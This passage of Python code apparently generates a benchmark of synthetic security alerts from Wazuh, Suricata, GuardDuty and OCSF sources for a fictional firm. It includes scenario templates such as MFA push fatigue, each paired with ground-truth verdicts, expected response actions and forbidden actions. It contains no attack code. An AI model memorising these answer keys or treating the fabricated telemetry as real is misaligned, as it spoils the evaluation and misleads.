        "agent": {"type": "endpoint", "version": "8.15.3"},
    }
    doc["event"] = {k: v for k, v in doc["event"].items() if k != "kind"}
    if host:
        windows = (host.os or "").startswith("Windows")
        doc["host"] = {
            "name": host.hostname,
            "hostname": host.hostname,
            "id": uuid_of("elastic-host", host.hostname),
            "ip": list(host.ips),
            "os": {
                "name": "Windows" if windows else "Linux",
                "full": host.os,
                "family": "windows" if windows else "debian",
                "platform": "windows" if windows else "ubuntu",
                "type": "windows" if windows else "linux",
            },
        }
    if user:
        windows_user = host is None or (host.os or "").startswith("Windows")
        doc["user"] = (
            {"name": user, "domain": NETBIOS, "id": sid_of(user)}
            if windows_user
            else {"name": user, "id": str(number_of("uid", user, low=1000, high=2000))}
        )
    if process:
        doc["process"] = _ecs_process(process, at)
    if file:
        name, path, sha256 = file
        doc["file"] = {
            "name": name,
            "path": path,
            "extension": name.rsplit(".", 1)[-1] if "." in name else "",
        }
        if sha256:
            doc["file"]["hash"] = {"sha256": sha256}
    if source:
        doc["source"] = source
    if destination:
        doc["destination"] = destination
    if dns:
        doc["dns"] = {"question": {"name": dns}}
    return doc


# --------------------------------------------------------------------------------------------
# Wazuh (examples/wazuh_alerts.json, examples/wazuh_dc_alerts.json)
# --------------------------------------------------------------------------------------------


def agent_id(hostname: str) -> str:
    return f"{number_of('wazuh-agent', hostname, low=1, high=400):03d}"


def wazuh_alert(
    at: datetime,
    host: Asset,
    *,
    rule_id: str,
    level: int,
    description: str,
    groups: Sequence[str],
    techniques: Sequence[str] = (),
    data: Record | None = None,
    full_log: str | None = None,
    location: str = "EventChannel",
    decoder: Record | None = None,
    syscheck: Record | None = None,
    predecoder: Record | None = None,
    firedtimes: int = 1,
) -> Record:
    """A Wazuh manager alert raised by the agent on ``host``."""
    rule: Record = {
        "level": level,
        "description": description,
        "id": rule_id,
        "firedtimes": firedtimes,
        "mail": level >= 12,
        "groups": list(groups),
    }
    if techniques:
        rule["mitre"] = {
            "id": list(techniques),
            "tactic": list(dict.fromkeys(tactic_of(t)[1] for t in techniques)),
            "technique": [technique_name(t) for t in techniques],
        }
    serial = number_of(
        "wazuh-id",
        at,
        rule_id,
        host.hostname,
        full_log or "",
        json.dumps(data, sort_keys=True),
        low=10**6,
        high=10**8,
    )
    alert: Record = {
        "timestamp": wazuh_time(at),
        "rule": rule,
        "agent": {"id": agent_id(host.hostname), "name": host.hostname, "ip": host.ips[0]},
        "manager": {"name": "wazuh-mgr-01"},
        "id": f"{int(at.timestamp())}.{serial}",
        "decoder": decoder or {"name": "windows_eventchannel"},
        "location": location,
    }
    if data is not None:
        alert["data"] = data
    if full_log is not None:
        alert["full_log"] = full_log
    if syscheck is not None:
        alert["syscheck"] = syscheck
    if predecoder is not None:
        alert["predecoder"] = predecoder
    return alert


def win_event(
    at: datetime,
    host: Asset,
    *,
    provider: str,
    event_id: str,
    message: str,
    eventdata: Record,
    channel: str = "Security",
) -> Record:
    """``data`` of a Windows eventchannel alert: ``{"win": {"system", "eventdata"}}``."""
    sysmon = provider == "Microsoft-Windows-Sysmon"
    return {
        "win": {
            "system": {
                "providerName": provider,
                "eventID": event_id,
                "channel": "Microsoft-Windows-Sysmon/Operational" if sysmon else channel,
                "computer": fqdn(host.hostname),
                "systemTime": at.strftime("%Y-%m-%dT%H:%M:%S.") + f"{at.microsecond:06d}0Z",
                "eventRecordID": str(number_of("record", at, host.hostname, low=10**5, high=10**7)),
                "severityValue": "AUDIT_SUCCESS"
                if event_id == "4624"
                else "AUDIT_FAILURE"
                if event_id == "4625"
                else "INFORMATION",
                "message": f'"{message}"',
            },
            "eventdata": eventdata,
        }
    }


def sysmon_process(at: datetime, proc: Proc, user: str) -> Record:
    """Sysmon event 1 (process create) eventdata."""
    parent = proc.parent
    hashes = f"SHA256={proc.sha256.upper()}" if proc.sha256 else ""
    data: Record = {
        "utcTime": at.strftime("%Y-%m-%d %H:%M:%S.") + f"{at.microsecond // 1000:03d}",
        "processGuid": "{" + uuid_of("guid", proc.cmd, at) + "}",
        "processId": str(proc.pid(at)),
        "image": proc.path,
        "commandLine": proc.cmd,
        "currentDirectory": "C:\\Windows\\system32\\",
        "user": user if "\\" in user else f"{NETBIOS}\\{user}",
        "integrityLevel": "High",
        "hashes": hashes + ",IMPHASH=" + digest("imphash", proc.path).upper(),
    }
    if parent:
        data.update(
            parentProcessId=str(parent.pid(at)),
            parentImage=parent.path,
            parentCommandLine=parent.cmd,
        )
    return data


def logon_data(
    user: str,
    *,
    source_ip: str,
    workstation: str,
    logon_type: int = 3,
    ntlm: bool = True,
    failed: bool = False,
) -> Record:
    """Security 4624 / 4625 eventdata."""
    data: Record = {
        "targetUserName": user,
        "targetDomainName": NETBIOS,
        "workstationName": workstation,
        "ipAddress": source_ip,
        "ipPort": str(number_of("port", user, source_ip, low=49152, high=65000)),
        "logonType": str(logon_type),
        "logonProcessName": "NtLmSsp" if ntlm else "Kerberos",
        "authenticationPackageName": "NTLM" if ntlm else "Kerberos",
    }
    if failed:
        data.update(status="0xc000006d", subStatus="0xc000006a", failureReason="%%2313")
    else:
        data.update(
            targetUserSid=sid_of(user),
            targetLogonId=hex(number_of("logon", user, source_ip, low=10**6, high=10**8)),
        )
    return data


def logon_event(at: datetime, host: Asset, eventdata: Record, *, failed: bool = False) -> Record:
    """``data`` of a Security 4624 (logon) or 4625 (failed logon) eventchannel alert."""
    return win_event(
        at,
        host,
        provider="Microsoft-Windows-Security-Auditing",
        event_id="4625" if failed else "4624",
        message="An account failed to log on."
        if failed
        else "An account was successfully logged on.",
        eventdata=eventdata,
    )


def wazuh_rdp_logon(at: datetime, server: Asset, user: str, src: Asset, *, level: int) -> Record:
    """Wazuh: a Remote Desktop logon (rule 92653, Security 4624 logon type 10, Kerberos)."""
    return wazuh_alert(
        at,
        server,
        rule_id="92653",
        level=level,
        description=f"User: {NETBIOS}\\{user} logged using Remote Desktop Connection "
        f"(RDP) from ip:{src.ips[0]}.",
        groups=["win_evt_channel", "windows", "authentication_success"],
        techniques=["T1021.001"],
        data=logon_event(
            at,
            server,
            logon_data(
                user, source_ip=src.ips[0], workstation=src.hostname, logon_type=10, ntlm=False
            ),
        ),
    )


def wazuh_logon_failure(
    at: datetime,
    host: Asset,
    user: str,
    *,
    source_ip: str,
    workstation: str,
    techniques: Sequence[str] = (),
) -> Record:
    """Wazuh: one failed Windows logon (rule 60122, Security 4625)."""
    return wazuh_alert(
        at,
        host,
        rule_id="60122",
        level=5,
        description="Logon Failure - Unknown user or bad password.",
        groups=["windows", "win_security", "authentication_failed"],
        techniques=techniques,
        data=logon_event(
            at,
            host,
            logon_data(user, source_ip=source_ip, workstation=workstation, failed=True),
            failed=True,
        ),
    )


def linux_log(at: datetime, host: Asset, program: str, message: str) -> tuple[str, Record]:
    """A syslog line and the predecoder Wazuh adds for it."""
    stamp = at.strftime("%b %d %H:%M:%S").replace(" 0", "  ")
    pid = number_of("linux-pid", program, at, low=1000, high=60000)
    short = host.hostname.lower()
    return (
        f"{stamp} {short} {program}[{pid}]: {message}",
        {"program_name": program, "timestamp": stamp, "hostname": short},
    )


# --------------------------------------------------------------------------------------------
# Suricata EVE alerts (examples/suricata_eve.json)
# --------------------------------------------------------------------------------------------


def suricata_alert(
    at: datetime,
    *,
    src: str,
    dst: str,
    dport: int,
    sid: int,
    signature: str,
    category: str,
    priority: int,
    techniques: Sequence[str] = (),
    sport: int | None = None,
    proto: str = "TCP",
    app_proto: str | None = None,
    extra: Record | None = None,
    action: str = "allowed",
    signature_severity: str = "Major",
) -> Record:
    """A Suricata ``alert`` event; ``extra`` adds protocol objects (http, tls, dns, smb, flow)."""
    metadata: Record = {
        "created_at": ["2024_03_05"],
        "updated_at": ["2026_10_01"],
        "signature_severity": [signature_severity],
    }
    if techniques:
        metadata.update(
            mitre_tactic_id=[tactic_of(t)[0] for t in techniques],
            mitre_tactic_name=[tactic_of(t)[1].replace(" ", "_") for t in techniques],
            mitre_technique_id=list(techniques),
            mitre_technique_name=[technique_name(t).replace(" ", "_") for t in techniques],
        )
    event: Record = {
        "timestamp": eve_time(at),
        "flow_id": number_of("flow", at, src, dst, dport, sid, low=10**15, high=2 * 10**15),
        "in_iface": "ens192",
        "event_type": "alert",
        "src_ip": src,
        "src_port": sport or number_of("sport", at, src, dst, low=32768, high=65000),
        "dest_ip": dst,
        "dest_port": dport,
        "proto": proto,
        "direction": "to_server",
        "alert": {
            "action": action,
            "gid": 1,
            "signature_id": sid,
            "rev": 1 + sid % 7,
            "signature": signature,
            "category": category,
            "severity": priority,
            "metadata": metadata,
        },
    }
    if app_proto:
        event["app_proto"] = app_proto
    event.update(extra or {})
    if "flow" not in event:
        size = number_of("bytes", at, src, low=300, high=9000)
        event["flow"] = {
            "pkts_toserver": 3 + size // 1400,
            "pkts_toclient": 2 + size // 3000,
            "bytes_toserver": size,
            "bytes_toclient": size // 2 + 60,
            "start": eve_time(at - timedelta(seconds=1)),
        }
    return event


# --------------------------------------------------------------------------------------------
# Amazon GuardDuty (examples/guardduty_findings.json)
# --------------------------------------------------------------------------------------------


PORT_PROBE = "EC2 instance has an unprotected port which is being probed by a known malicious host."


def dashed(ip: str) -> str:
    return ip.replace(".", "-")


def gd_instance(instance: str) -> Record:
    private = ip_of(instance)
    public = EC2_PUBLIC_IPS[instance]
    role = ASSETS[instance].role
    return {
        "ResourceType": "Instance",
        "InstanceDetails": {
            "AvailabilityZone": f"{AWS_REGION}a",
            "ImageId": "ami-0" + digest("ami", instance, size=16),
            "InstanceId": instance,
            "InstanceState": "running",
            "InstanceType": "t3.large" if "worker" in role else "t3.small",
            "LaunchTime": "2026-09-02T07:41:18.000Z",
            "IamInstanceProfile": {
                "Arn": f"arn:aws:iam::{AWS_ACCOUNT}:instance-profile/northwind-{role}",
                "Id": "AIPA" + digest("profile", instance, size=16).upper(),
            },
            "NetworkInterfaces": [
                {
                    "NetworkInterfaceId": "eni-0" + digest("eni", instance, size=16),
                    "PrivateDnsName": f"ip-{dashed(private)}.{AWS_REGION}.compute.internal",
                    "PrivateIpAddress": private,
                    "PublicDnsName": f"ec2-{dashed(public)}.{AWS_REGION}.compute.amazonaws.com",
                    "PublicIp": public,
                    "SecurityGroups": [
                        {
                            "GroupId": "sg-0" + digest("sg", role, size=16),
                            "GroupName": role.replace("_", "-"),
                        }
                    ],
                    "SubnetId": "subnet-0" + digest("subnet", role, size=16),
                    "VpcId": "vpc-0c1d2e3f4a5b6c7d8",
                }
            ],
            "Tags": [
                {"Key": "Name", "Value": f"northwind-{role.replace('_', '-')}"},
                {"Key": "owner", "Value": ASSETS[instance].owner},
            ],
        },
    }


def gd_access_key(
    user: str, *, key_id: str, user_type: str = "IAMUser", buckets: Sequence[str] = ()
) -> Record:
    resource: Record = {
        "ResourceType": "S3Bucket" if buckets else "AccessKey",
        "AccessKeyDetails": {
            "AccessKeyId": key_id,
            "PrincipalId": ("AROA" if user_type == "AssumedRole" else "AIDA")
            + digest("principal", user, size=16).upper()
            + (f":{key_id[-8:]}" if user_type == "AssumedRole" else ""),
            "UserName": user,
            "UserType": user_type,
        },
    }
    if buckets:
        resource["S3BucketDetails"] = [
            {
                "Arn": f"arn:aws:s3:::{bucket}",
                "Name": bucket,
                "Type": "Destination",
                "CreatedAt": "2023-03-08T09:14:52Z",
                "Tags": [{"Key": "data-classification", "Value": "confidential"}],
                "DefaultServerSideEncryption": {"EncryptionType": "AES256"},
                "PublicAccess": {"EffectivePermission": "NOT_PUBLIC"},
            }
            for bucket in buckets
        ]
    return resource


def _remote(ip: str, country: str) -> Record:
    city, _, name, lat, lon, isp = GEO[country]
    return {
        "IpAddressV4": ip,
        "City": {"CityName": city},
        "Country": {"CountryCode": country, "CountryName": name},
        "GeoLocation": {"Lat": lat, "Lon": lon},
        "Organization": {
            "Asn": str(number_of("asn", isp, low=64500, high=64520)),
            "AsnOrg": isp.upper(),
            "Isp": isp.title(),
            "Org": isp.title(),
        },
    }


def gd_api(
    api: str,
    service: str,
    ip: str,
    country: str,
    *,
    ua: str = "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-35-generic exe/x86_64",
    error: str | None = None,
) -> Record:
    call: Record = {
        "Api": api,
        "CallerType": "Remote IP",
        "ServiceName": service,
        "RemoteIpDetails": _remote(ip, country),
        "UserAgent": ua,
    }
    if error:
        call["ErrorCode"] = error
    return {"ActionType": "AWS_API_CALL", "AwsApiCallAction": call}


def gd_connection(
    direction: str,
    remote_ip: str,
    country: str,
    *,
    remote_port: int,
    local_port: int,
    blocked: bool = False,
) -> Record:
    return {
        "ActionType": "NETWORK_CONNECTION",
        "NetworkConnectionAction": {
            "ConnectionDirection": direction,
            "Protocol": "TCP",
            "Blocked": blocked,
            "RemoteIpDetails": _remote(remote_ip, country),
            "RemotePortDetails": {"Port": remote_port},
            "LocalPortDetails": {"Port": local_port},
        },
    }


def gd_probe(local_ip: str, probes: Sequence[tuple[int, str, str, str]]) -> Record:
    """Probes: (local port, port name, remote ip, remote country)."""
    return {
        "ActionType": "PORT_PROBE",
        "PortProbeAction": {
            "Blocked": False,
            "PortProbeDetails": [
                {
                    "LocalPortDetails": {"Port": port, "PortName": name},
                    "LocalIpDetails": {"IpAddressV4": local_ip},
                    "RemoteIpDetails": _remote(ip, country),
                }
                for port, name, ip, country in probes
            ],
        },
    }


def gd_dns(domain: str, *, blocked: bool = False) -> Record:
    return {
        "ActionType": "DNS_REQUEST",
        "DnsRequestAction": {"Domain": domain, "Protocol": "UDP", "Blocked": blocked},
    }


def guardduty_finding(
    at: datetime,
    *,
    finding_type: str,
    severity: float,
    title: str,
    description: str,
    resource: Record,
    action: Record,
    count: int = 1,
    first_seen: datetime | None = None,
    role: str = "TARGET",
    runtime: Record | None = None,
) -> Record:
    """A GuardDuty finding; ``at`` is its EventLastSeen. ``runtime`` is the RuntimeDetails of
    a Runtime Monitoring finding (the process and its executable)."""
    first = first_seen or at - timedelta(minutes=4)
    finding_id = digest(
        "guardduty",
        finding_type,
        at,
        json.dumps(resource, sort_keys=True),
        json.dumps(action, sort_keys=True),
    )
    detector = "7ec4b2f1a9d83c5e0f6a1b2c3d4e5f60"
    return {
        "SchemaVersion": "2.0",
        "AccountId": AWS_ACCOUNT,
        "Region": AWS_REGION,
        "Partition": "aws",
        "Id": finding_id,
        "Arn": f"arn:aws:guardduty:{AWS_REGION}:{AWS_ACCOUNT}:detector/{detector}/finding/"
        f"{finding_id}",
        "Type": finding_type,
        "Severity": severity,
        "Title": title,
        "Description": description,
        "CreatedAt": iso_ms(first + timedelta(minutes=2)),
        "UpdatedAt": iso_ms(at + timedelta(minutes=1)),
        "Resource": resource,
        "Service": {
            "Action": action,
            "Archived": False,
            "Count": count,
            "DetectorId": detector,
            "EventFirstSeen": iso_ms(first),
            "EventLastSeen": iso_ms(at),
            "ResourceRole": role,
            "ServiceName": "guardduty",
            **({"RuntimeDetails": runtime} if runtime else {}),
        },
    }


# --------------------------------------------------------------------------------------------
# OCSF Detection Findings from OCSF-native tools (examples/ocsf_detection_findings.json)
# --------------------------------------------------------------------------------------------

MAIL_GATEWAY = ("Harbor Mail Gateway", "Harbor Security", "8.4.2", "harbor-mgw")
DLP = ("Lighthouse DLP", "Lighthouse Data Protection", "5.2.0", "lighthouse-dlp")
CASB = ("Skyline CASB", "Skyline Networks", "3.9.1", "skyline-casb")


def ocsf_attacks(techniques: Sequence[str]) -> list[Record]:
    out = []
    for uid in techniques:
        tactic, tactic_name = tactic_of(uid)
        attack: Record = {"tactic": {"uid": tactic, "name": tactic_name}}
        if "." in uid:
            attack["technique"] = {"uid": _parent(uid), "name": PARENTS[_parent(uid)]}
            attack["sub_technique"] = {"uid": uid, "name": technique_name(uid)}
        else:
            attack["technique"] = {"uid": uid, "name": technique_name(uid)}
        out.append(attack)
    return out


def ocsf_email(
    *,
    sender: str,
    recipients: Sequence[str],
    subject: str,
    sender_ip: str,
    urls: Sequence[str] = (),
    at: datetime,
) -> Record:
    """An ``evidences[]`` item for a mail: the message and the sending server."""
    domain = sender.split("@", 1)[1]
    return {
        "email": {
            "from": sender,
            "to": list(recipients),
            "subject": subject,
            "message_uid": f"<{at:%Y%m%d%H%M%S}.{digest(sender, subject, size=4)}@{domain}>",
            "x_originating_ip": [sender_ip],
            "urls": [
                {
                    "url_string": u,
                    "scheme": u.split(":", 1)[0],
                    "hostname": u.split("/")[2],
                    "path": "/" + u.split("/", 3)[-1],
                }
                for u in urls
            ],
        },
        "src_endpoint": {"ip": sender_ip, "hostname": f"mail.{domain}"},
    }


def ocsf_finding(
    at: datetime,
    *,
    product: tuple[str, str, str, str],
    title: str,
    desc: str,
    types: Sequence[str],
    analytic: tuple[str, str],
    techniques: Sequence[str],
    level: int,
    message: str,
    device: Asset | None = None,
    user: str | None = None,
    evidences: Sequence[Record] = (),
    observables: Sequence[tuple[str, int, str]] = (),
) -> Record:
    """A Detection Finding; ``observables`` are (name, type_id, value)."""
    name, vendor, version, product_uid = product
    uid = f"{product_uid.split('-')[0].upper()}-{at:%Y%m%d}-" + str(
        number_of("ocsf", title, at, json.dumps(evidences, sort_keys=True), low=1, high=999999)
    ).zfill(6)
    finding: Record = {
        "activity_id": 1,
        "activity_name": "Create",
        "category_uid": 2,
        "category_name": "Findings",
        "class_uid": 2004,
        "class_name": "Detection Finding",
        "type_uid": 200401,
        "type_name": "Detection Finding: Create",
        "severity_id": level,
        "severity": level_word(level).title(),
        "status_id": 1,
        "status": "New",
        "time": epoch_ms(at),
        "time_dt": iso_ms(at),
        "confidence_id": 3,
        "confidence": "High",
        "message": message,
        "metadata": {
            "version": "1.3.0",
            "product": {
                "name": name,
                "vendor_name": vendor,
                "version": version,
                "uid": product_uid,
            },
            "uid": uuid_of("ocsf-meta", uid),
            "original_time": iso_ms(at),
            "log_name": "detections",
            "logged_time": epoch_ms(at) + 900,
        },
        "finding_info": {
            "uid": uid,
            "title": title,
            "desc": desc,
            "types": list(types),
            "analytic": {"uid": analytic[0], "name": analytic[1], "type_id": 1, "type": "Rule"},
            "attacks": ocsf_attacks(techniques),
            "first_seen_time": epoch_ms(at) - 1300,
            "last_seen_time": epoch_ms(at) - 1300,
        },
        "observables": [{"name": n, "type_id": t, "value": v} for n, t, v in observables],
    }
    if device:
        finding["device"] = {
            "hostname": device.hostname,
            "ip": device.ips[0],
            "type_id": 3,
            "type": "Laptop",
            "os": {"name": device.os or "Windows 11", "type_id": 100, "type": "Windows"},
        }
    if user:
        finding["actor"] = {
            "user": {
                "name": f"{user}@{DOMAIN}",
                "email_addr": f"{user}@{DOMAIN}",
                "uid": sid_of(user),
            }
        }
    if evidences:
        finding["evidences"] = list(evidences)
    return finding


# --------------------------------------------------------------------------------------------
# Stories: one scenario being written, with the helpers templates use to pick its details.
# --------------------------------------------------------------------------------------------

NOVEMBER = tuple(date(2026, 11, day) for day in range(2, 28))
WORKDAYS = tuple(d for d in NOVEMBER if d.weekday() < 5)
WEEKENDS = tuple(d for d in NOVEMBER if d.weekday() >= 5)
_WORDS = (
    "secure",
    "portal",
    "docs",
    "cloud",
    "sync",
    "update",
    "files",
    "share",
    "verify",
    "account",
    "delivery",
    "track",
    "login",
    "auth",
    "cdn",
    "static",
    "api",
    "data",
    "online",
    "service",
    "office",
    "review",
    "notice",
    "storage",
    "connect",
    "check",
    "status",
    "web",
)
# Look-alikes of northwind.example an attacker registers (never the real domain).
_LOOKALIKE_BASES = (
    "northwlnd",
    "n0rthwind",
    "northwind-portal",
    "northwinds",
    "nortwind",
    "northvvind",
    "northwind-group",
    "northwind-logistics",
    "north-wind",
    "northwind-corp",
)


def clock(day: date, hour: int, minute: int = 0) -> datetime:
    return datetime.combine(day, time(hour, minute), tzinfo=UTC)


class Story:
    """A scenario being written: alerts with their refs, the truth, and its environment."""

    def __init__(self, scenario_id: str, category: Category, rng: random.Random) -> None:
        self.id = scenario_id
        self.category = category
        self.rng = rng
        self.title = ""
        self.description = ""
        self.difficulty: Literal["standard", "hard"] = "standard"
        self.t0 = clock(WORKDAYS[0], 9)
        self._alerts: list[tuple[datetime, str, Record]] = []
        self._cases: list[TruthCase] = []
        self._forbidden: list[ActionPattern] = []
        self.assets: list[Asset] = []
        self.identities: list[Identity] = []
        self.windows: list[MaintenanceWindow] = []
        self.scanners: list[Scanner] = []
        self.indicators: list[Indicator] = []
        self.lab = LabState()
        self._ips: set[str] = set(RESERVED_IPS)
        self._names: set[str] = set()

    # -- picking details -------------------------------------------------------------------

    def pick(self, items: Sequence[Any]) -> Any:
        return self.rng.choice(list(items))

    def sample(self, items: Sequence[Any], count: int) -> list[Any]:
        return self.rng.sample(list(items), count)

    def others(self, items: Sequence[Person], *excluded: Person, count: int = 1) -> list[Person]:
        return self.sample([p for p in items if p not in excluded], count)

    def ext_ip(self, prefixes: Sequence[str] = ("198.51.100", "203.0.113")) -> str:
        """An internet address no other entity of this scenario uses."""
        while True:
            ip = f"{self.pick(prefixes)}.{self.rng.randint(2, 250)}"
            if ip not in self._ips:
                self._ips.add(ip)
                return ip

    def sha256(self) -> str:
        return f"{self.rng.getrandbits(256):064x}"

    def hex(self, size: int) -> str:
        return f"{self.rng.getrandbits(size * 4):0{size}x}"

    def domain(self, *words: str) -> str:
        """A fresh attacker domain, e.g. ``sync-portal42.example``."""
        while True:
            parts = list(words) or self.sample(_WORDS, 2)
            name = f"{'-'.join(parts)}{self.rng.randint(2, 98)}.example"
            if name not in self._names:
                self._names.add(name)
                return name

    def lookalike(self, purpose: str) -> str:
        """A look-alike of northwind.example, e.g. ``n0rthwind-payroll.example``."""
        while True:
            name = f"{self.pick(_LOOKALIKE_BASES)}-{purpose}.example"
            if name not in self._names:
                self._names.add(name)
                return name

    def workday_time(self, start: int = 8, end: int = 16) -> datetime:
        """A time in office hours (UTC) on a weekday."""
        return clock(self.pick(WORKDAYS), self.rng.randint(start, end), self.rng.randint(0, 59))

    def night_time(self) -> datetime:
        """Between 01:00 and 04:59 on a Saturday or Sunday: nobody is at work."""
        return clock(self.pick(WEEKENDS), self.rng.randint(1, 4), self.rng.randint(0, 59))

    def evening_time(self) -> datetime:
        return clock(self.pick(WORKDAYS), self.rng.randint(19, 22), self.rng.randint(0, 59))

    def start(self, when: datetime) -> None:
        self.t0 = when

    def at(self, minutes: float) -> datetime:
        """``minutes`` after the story's start, plus up to 41 s of jitter.

        The jitter is a function of ``minutes``, so the time a record carries and the slot it
        takes in the timeline agree even when a template asks for the same moment twice.
        """
        jitter = number_of("jitter", self.id, repr(float(minutes)), high=41_000)
        return self.t0 + timedelta(minutes=minutes, milliseconds=jitter)

    # -- writing the scenario ----------------------------------------------------------------

    def add(self, ref: str, when: datetime, record: Record) -> str:
        self._alerts.append((when, ref, record))
        return ref

    def alert(
        self,
        ref: str,
        when: datetime,
        build: Callable[Concatenate[datetime, P], Record],
        *args: P.args,
        **kwargs: P.kwargs,
    ) -> str:
        """Add the record ``build(when, *args, **kwargs)`` under ``ref`` at ``when``."""
        return self.add(ref, when, build(when, *args, **kwargs))

    def case(
        self,
        case_id: str,
        refs: Iterable[str],
        verdict: TruthVerdict,
        *,
        techniques: Iterable[str] = (),
        evidence: Iterable[str] = (),
        actions: Iterable[tuple[str, str]] = (),
    ) -> None:
        self._cases.append(
            TruthCase(
                id=case_id,
                alerts=tuple(refs),
                verdict=verdict,
                techniques=tuple(techniques),
                evidence=tuple(evidence),
                expected_actions=tuple(
                    ActionPattern(action=a, target=t) for a, t in dict.fromkeys(actions)
                ),
            )
        )

    def forbid(self, *pairs: tuple[str, str]) -> None:
        for action, target in pairs:
            pattern = ActionPattern(action=action, target=target)
            if pattern not in self._forbidden:
                self._forbidden.append(pattern)

    def refs(self, prefix: str = "") -> list[str]:
        """Refs added so far (those starting with ``prefix``), in the order they were added."""
        return [ref for _, ref, _ in self._alerts if ref.startswith(prefix)]

    def intel(
        self,
        value: str,
        kind: IndicatorType,
        description: str,
        confidence: int = 85,
        source: str = "northwind-cti",
    ) -> None:
        self.indicators.append(
            Indicator(
                value=value,
                type=kind,
                confidence=confidence,
                source=source,
                description=description,
            )
        )

    def window(
        self, change: str, description: str, hosts: Sequence[str], start: datetime, hours: float
    ) -> None:
        self.windows.append(
            MaintenanceWindow(
                id=change,
                description=description,
                hosts=tuple(hosts),
                start=start,
                end=start + timedelta(hours=hours),
            )
        )

    def scenario(self) -> Scenario:
        alerts = sorted(self._alerts, key=lambda item: item[0])
        last = alerts[-1][0]
        now = last + timedelta(minutes=self.rng.randint(5, 30))
        return Scenario(
            id=self.id,
            title=self.title,
            category=self.category,
            difficulty=self.difficulty,
            description=self.description,
            now=now.replace(microsecond=0),
            alerts=tuple(ScenarioAlert(ref=ref, record=record) for _, ref, record in alerts),
            environment=Environment(
                assets=tuple(self.assets),
                identities=tuple(self.identities),
                windows=tuple(self.windows),
                scanners=tuple(self.scanners),
                indicators=tuple(self.indicators),
                lab=self.lab,
            ),
            truth=Truth(cases=tuple(self._cases), forbidden_actions=tuple(self._forbidden)),
        )


TemplateFn = Callable[[Story, int], None]


@dataclass(frozen=True)
class Template:
    name: str
    category: Category
    variants: int
    write: TemplateFn

    @property
    def slug(self) -> str:
        return self.name.replace("_", "-")


TEMPLATES: list[Template] = []


def template(category: Category, variants: int) -> Callable[[TemplateFn], TemplateFn]:
    """Register a story; it is written ``variants`` times with different details."""

    def register(write: TemplateFn) -> TemplateFn:
        TEMPLATES.append(Template(write.__name__, category, variants, write))
        return write

    return register


# Forbidden in every scenario of the suite: the guardrail's own red lines.
ALWAYS_FORBIDDEN = (("disable_user", "breakglass-admin"), ("isolate_host", "DC-01"))


def forbid_defaults(s: Story) -> None:
    s.forbid(*ALWAYS_FORBIDDEN)


# ============================================================================================
# credential_abuse
# ============================================================================================


def push_fatigue(
    s: Story, victim: Person, ip: str, country: str, denials: int, *, new_place: bool = True
) -> list[str]:
    """Okta: a push, ``denials`` rejected pushes, then an approved one and a session."""
    okta: dict[str, Any] = {
        "person": victim,
        "ip": ip,
        "country": country,
        "new_place": new_place,
        "session": "idx" + s.hex(22),
    }
    targets = [okta_target(victim), OKTA_VERIFY]
    s.alert(
        "okta-push",
        s.at(0),
        okta_event,
        event_type="system.push.send_factor_verify_push",
        message="Push notification sent for verification",
        targets=targets,
        request_uri="/idp/idx/challenge",
        **okta,
    )
    for k in range(1, denials + 1):
        when = s.at(k)
        s.alert(
            f"okta-deny-{k}",
            when,
            okta_push_denied,
            targets=targets,
            request_uri="/idp/idx/authenticators/poll",
            **okta,
        )
    risk = "HIGH" if new_place else "MEDIUM"
    when = s.at(denials + 2)
    s.alert(
        "okta-mfa-ok",
        when,
        okta_mfa_ok,
        risk=risk,
        threat_suspected=False,
        credential_type="OTP",
        legacy="core.user.factor.attempt_success",
        targets=targets,
        request_uri="/idp/idx/authenticators/poll",
        **okta,
    )
    when = when + timedelta(seconds=1)
    s.alert(
        "okta-session",
        when,
        okta_session,
        risk=risk,
        threat_suspected=False,
        request_uri="/idp/idx/authenticators/poll",
        **okta,
    )
    return ["okta-deny-1", "okta-session"]


@template("credential_abuse", 5)
def mfa_fatigue(s: Story, i: int) -> None:
    victim = s.pick(OFFICE_STAFF + EXECUTIVES)
    hidden = i == 4  # the attacker signs in through a proxy in the victim's own country
    country = "DE" if hidden else s.pick(HOSTILE_COUNTRIES)
    attacker = s.ext_ip()
    denials = s.rng.randint(2, 5)
    s.difficulty = "hard" if hidden else "standard"
    s.start(s.workday_time() if i % 2 == 0 else s.evening_time())
    s.title = f"MFA push fatigue against {victim.name}, then a sign-in from {country}"
    s.description = (
        f"An attacker holding {victim.name}'s password sends Okta Verify pushes from {attacker} "
        f"({country_name(country)}); {victim.first} rejects {denials} and then approves one. "
        + (
            "The address is a residential proxy in Germany, so nothing about the location is "
            "unusual: only the push pattern gives it away."
            if hidden
            else "A Sentinel rule flags the pattern."
        )
    )
    evidence = push_fatigue(s, victim, attacker, country, denials, new_place=not hidden)
    s.alert(
        "sentinel-fatigue",
        s.at(denials + 8),
        sentinel_alert,
        name="Okta MFA push fatigue followed by a successful sign-in",
        level=4,
        description="A user denied or ignored several Okta Verify pushes and then "
        "approved one, from an IP address not seen for this user before.",
        tactics=["CredentialAccess"],
        techniques=["T1621"],
        entities=[se_account(victim.user), se_ip(attacker, country)],
        extended={"Data Sources": '["Okta_CL"]'},
        start=s.at(0),
    )
    techniques = ["T1621", "T1078.004"]
    if i in (0, 2):
        s.alert(
            "sentinel-travel",
            s.at(denials + 4),
            identity_protection,
            name="Atypical travel",
            alert_type="ImpossibleTravel",
            level=3,
            description=ATYPICAL_TRAVEL,
            user=victim.user,
            ip=attacker,
            country=country,
            previous=(HQ_EGRESS, "DE"),
        )
    if i in (1, 3):
        # The attacker enrolls an authenticator of their own to keep access.
        when = s.at(denials + 12)
        s.alert(
            "okta-factor-enrolled",
            when,
            okta_event,
            person=victim,
            event_type="user.mfa.factor.activate",
            message="Activate factor or authenticator",
            ip=attacker,
            country=country,
            targets=[okta_target(victim)],
            request_uri="/idp/myaccount/authenticators",
        )
        techniques.append("T1098.005")
    s.case(
        "account-takeover",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["sentinel-fatigue", *evidence],
        actions=[
            ("revoke_sessions", victim.user),
            ("reset_password", victim.user),
            ("block_ip", attacker),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", HQ_EGRESS))


_NEW_HIRES = (
    ("kai.lehmann", "Kai Lehmann"),
    ("lina.vogel", "Lina Vogel"),
    ("emre.kaya", "Emre Kaya"),
    ("julia.brandt", "Julia Brandt"),
)


@template("credential_abuse", 5)
def password_spray(s: Story, i: int) -> None:
    attacker = s.ext_ip()
    # One variant sprays from two addresses of the same hosting range.
